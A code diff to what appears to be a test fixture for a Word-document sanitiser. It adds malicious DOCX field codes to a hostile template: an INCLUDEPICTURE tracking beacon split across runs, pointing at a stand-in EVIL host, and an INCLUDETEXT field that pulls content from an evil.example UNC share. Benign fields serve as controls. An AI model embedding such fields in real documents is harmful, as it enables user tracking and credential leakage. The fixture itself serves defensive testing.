@@ -48,7 +48,13 @@ export function hostileTemplate(base: Uint8Array): Uint8Array {
     '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdEvilOle" UpdateMode="Always"/></w:object></w:r></w:p>' +
     `<w:p>${linkedPicture('rIdEvilImg')}</w:p>` +
     '<w:altChunk r:id="rIdEvilChunk"/>' +
-    '<w:p><w:hyperlink r:id="rIdKeptLink"><w:r><w:t>kept link</w:t></w:r></w:hyperlink></w:p>';
+    '<w:p><w:hyperlink r:id="rIdKeptLink"><w:r><w:t>kept link</w:t></w:r></w:hyperlink></w:p>' +
+    // Fields that fetch: a tracking picture (complex field, instruction split over two runs) and an included file.
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>' +
+    `<w:r><w:instrText xml:space="preserve">PICTURE "${EVIL}/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` +
+    '<w:r><w:t>tracked</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' +
+    '<w:p><w:fldSimple w:instr=" INCLUDETEXT \\\\evil.example\\share\\x.docx "><w:r><w:t>included</w:t></w:r></w:fldSimple></w:p>' +
+    '<w:p><w:fldSimple w:instr=" DATE "><w:r><w:t>kept date</w:t></w:r></w:fldSimple></w:p>';
   const doc = text(parts['word/document.xml']);
   const bodyStart = doc.indexOf('>', doc.indexOf('<w:body')) + 1;
   const sectPr = doc.lastIndexOf('<w:sectPr');
